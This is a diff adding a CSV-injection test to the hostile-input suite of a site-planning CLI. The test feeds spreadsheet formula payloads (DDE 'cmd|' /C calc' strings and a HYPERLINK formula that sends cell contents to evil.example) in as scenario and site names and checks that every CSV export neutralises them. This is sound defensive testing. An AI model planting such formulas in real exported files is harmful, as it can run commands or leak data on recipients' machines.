@@ -2,8 +2,9 @@
  *
  * A deeply nested scenario file, a document whose stored change was made deep, names with
  * terminal escapes and bidirectional overrides, weights beyond use, more changes than a
- * scenario holds. Every refusal is a clear message and an ordinary exit; fp_test_run_cli()
- * fails the test if the CLI dies.
+ * scenario holds, and formula payloads in scenario names and site names and ids that must
+ * come out of every CSV neutralised (read back by Python's csv module). Every refusal is a
+ * clear message and an ordinary exit; fp_test_run_cli() fails the test if the CLI dies.
  *
  * SPDX-License-Identifier: GPL-3.0-or-later
  */
@@ -127,6 +128,105 @@ test_stored_deep (void)
       fp_test_run_cli (&run, data_home, commands[i]);
       must_refuse (&run, 1, "change 1 nests lists and objects deeper than 32 levels");
     }
+}
+
+/* ---- CSV injection, end to end --------------------------------------------------------- */
+
+static void
+check_csv (const char         *label,
+           const char         *csv,
+           const char * const *expect)
+{
+  g_autofree char *path = write_temp ("cli.csv", csv, -1);
+  g_autofree char *script = g_test_build_filename (G_TEST_DIST, "check-csv-cells.py", NULL);
+  g_autoptr(GPtrArray) argv = g_ptr_array_new ();
+  g_autoptr(GError) error = NULL;
+  g_autofree char *out = NULL;
+  g_autofree char *err = NULL;
+  int status = 0;
+
+  g_ptr_array_add (argv, "python3");
+  g_ptr_array_add (argv, script);
+  g_ptr_array_add (argv, path);
+  for (guint i = 0; expect != NULL && expect[i] != NULL; i++)
+    g_ptr_array_add (argv, (gpointer) expect[i]);
+  g_ptr_array_add (argv, NULL);
+
+  g_spawn_sync (NULL, (char **) argv->pdata, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, &out, &err,
+                &status, &error);
+  g_assert_no_error (error);
+  g_test_message ("%s: %s%s", label, out, err);
+  if (!g_spawn_check_wait_status (status, NULL))
+    g_error ("%s: a CSV cell would be read as a formula:\n%s%s", label, out, err);
+}
+
+/* Scenario names, a new site's name and its id, each a formula payload. */
+static void
+test_csv_injection (void)
+{
+  const struct { const char *scenario, *name, *id; } cases[] = {
+    { "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
+      "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0" },
+    { "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0" },
+    { "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example\")" },
+    { "-2+3+cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Open\")",
+      "@SUM(A1:A9)" },
+    { "@SUM(1+1)*cmd|' /C calc'!A0", "+44 121 000 0000", "=1+1,\"quoted\"" },
+  };
+  guint n_csv = 0;
+
+  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
+    {
+      g_auto(FpTestRun) create = { 0 };
+      g_auto(FpTestRun) open = { 0 };
+      g_auto(FpTestRun) move = { 0 };
+      g_auto(FpTestRun) compute = { 0 };
+      g_auto(FpTestRun) access = { 0 };
+      g_auto(FpTestRun) zones = { 0 };
+      const char *in_compute[] = { cases[i].scenario, cases[i].name, cases[i].id, NULL };
+      const char *in_access[] = { cases[i].scenario, NULL };
+      const char *in_zones[] = { cases[i].scenario, cases[i].id, NULL };
+
+      CLI (&create, "scenario", "create", "--document", doc, "--scenario", cases[i].scenario);
+      must_succeed (&create);
+      CLI (&open, "scenario", "add-change", "--document", doc, "--scenario", cases[i].scenario,
+           "--kind", "open_site", "--year", "2026", "--id", cases[i].id, "--name", cases[i].name,
+           "--site-type", "hub", "--lat", "52.48", "--lon", "-1.89", "--gia-m2", "2400",
+           "--rooms", "consult=18", "--hours", "60", "--capital-cost", "9000000",
+           "--running-cost", "600000", "--tenure", "leasehold");
+      must_succeed (&open);
+      /* GP appointments at the new site, so it is some zones' nearest. */
+      CLI (&move, "scenario", "add-change", "--document", doc, "--scenario", cases[i].scenario,
+           "--kind", "move_service", "--year", "2026", "--site", nhs_site, "--service",
+           "gp_appointments", "--to-site", cases[i].id, "--share", "0.5");
+      must_succeed (&move);
+
+      CLI (&compute, "compute", "--document", doc, "--scenario", cases[i].scenario, "--year",
+           "2026", "--format", "csv");
+      must_succeed (&compute);
+      check_csv ("compute", compute.out, in_compute);
+      CLI (&access, "access", "--document", doc, "--scenario", cases[i].scenario, "--year",
+           "2026", "--format", "csv");
+      must_succeed (&access);
+      check_csv ("access", access.out, in_access);
+      CLI (&zones, "access", "--document", doc, "--scenario", cases[i].scenario, "--year",
+           "2026", "--service", "gp_appointments", "--zones", "--format", "csv");
+      must_succeed (&zones);
+      check_csv ("access by zone", zones.out, in_zones);
+      n_csv += 3;
+    }
+
+  {
+    g_auto(FpTestRun) sites = { 0 };
+
+    CLI (&sites, "sites", "--document", doc, "--format", "csv");
+    must_succeed (&sites);
+    check_csv ("sites", sites.out, NULL);
+    n_csv++;
+  }
+
+  g_test_message ("formula payloads: %u scenarios, %u payloads, %u CSV outputs checked",
+                  (guint) G_N_ELEMENTS (cases), (guint) G_N_ELEMENTS (cases) * 3, n_csv);
 }
 
 /* ---- Names and notes ------------------------------------------------------------------- */
@@ -298,6 +398,7 @@ main (int    argc,
 
   g_test_add_func ("/fp/hostile-cli/import-deep", test_import_deep);
   g_test_add_func ("/fp/hostile-cli/stored-deep", test_stored_deep);
+  g_test_add_func ("/fp/hostile-cli/csv-injection", test_csv_injection);
   g_test_add_func ("/fp/hostile-cli/text-options", test_text_options);
   g_test_add_func ("/fp/hostile-cli/weights", test_weights);
   g_test_add_func ("/fp/hostile-cli/limits", test_limits);
